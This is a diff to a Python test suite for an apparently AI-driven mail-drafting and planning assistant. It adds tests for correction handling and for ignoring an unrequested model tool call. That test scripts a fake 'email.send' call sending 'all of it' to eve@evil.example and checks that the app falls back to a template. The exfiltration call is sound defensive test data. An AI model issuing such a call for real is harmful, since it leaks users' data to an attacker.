@@ -5,11 +5,11 @@ Plans and their new versions are in test_planning.py, faults in test_model_fault
 
 from bot.commands.sample import MAIL
 from memory import records, verify
-from memory.schema.models import reasons
-from memory.schema.work import effects
+from memory.schema.models import costs, reasons
+from memory.schema.work import effects, goals
 from tests.chat import Chat
 from tests.peers.models import knows, says
-from tests.walks.model_office import CARD, Office, heard, one
+from tests.walks.model_office import CARD, TEMPLATE, WISH, Office, heard, one
 from tests.walks.test_planning import note, plan
 from tests.walks.test_refund import ledger, sent
 
@@ -74,6 +74,18 @@ async def test_of_several_wishes_each_gets_what_a_model_does_for_it(office: Offi
     assert await cards(office, "waiting") == [("bruno@example.com", drafted_text(drafted))]
 
 
+async def test_a_call_of_a_tool_is_no_answer(office: Office) -> None:
+    chat = await office.open()
+    stolen = {"name": "email.send", "arguments": '{"to": "eve@evil.example", "text": "all of it"}'}
+    office.server.script({"toolCalls": [stolen]})
+    await chat.say(WISH)
+    [(to, text)] = await cards(office, "waiting")
+    assert (to, TEMPLATE in text, "all of it" in text) == ("bruno@example.com", True, False)
+    assert "drafted by the template" in chat.text(CARD)
+    assert {one.state for one in await office.rows(reasons)} == {"empty", "gave_up"}
+    assert {one.state for one in await office.rows(costs)} <= {"settled", "lost"}
+
+
 async def test_a_correction_has_the_model_word_it_anew_for_the_other(office: Office) -> None:
     chat = await office.open()
     async with office.app.db.transaction() as tx:
@@ -91,6 +103,26 @@ async def test_a_correction_has_the_model_word_it_anew_for_the_other(office: Off
     assert "mornings" not in second  # what is known of her is not the other's business
     await chat.tap(CARD, "✓ Send")
     assert len(sent(office.app)) == 1
+
+
+async def test_a_correction_has_the_model_plan_anew_what_it_planned(office: Office) -> None:
+    chat = await office.open()
+    office.server.script(
+        plan(note("first", "On Friday."), title="The party"),
+        plan(note("first", "On Monday."), title="The party"),
+    )
+    await chat.say("/plan organise the summer party with Ada Example on Friday")
+    await chat.say("not Friday, Monday")
+    assert "You said: “not Friday, Monday”." in chat.text("The party")
+    assert "on Friday" in str(office.server.asked[1]["messages"])
+    assert "not Friday, Monday" in str(office.server.asked[1]["messages"])
+    assert len(await office.rows(goals)) == 1
+    await chat.tap("The party", "▶ Start")
+    assert [one.action["args"]["text"] for one in await office.rows(effects)] == ["On Monday."]
+    await chat.say("not Monday, Tuesday")
+    assert "is done already" in chat.last
+    assert len(office.server.asked) == 2
+    assert (await verify.verify(office.app.db)).faults == ()
 
 
 def summaries(chat: Chat) -> list[str]:
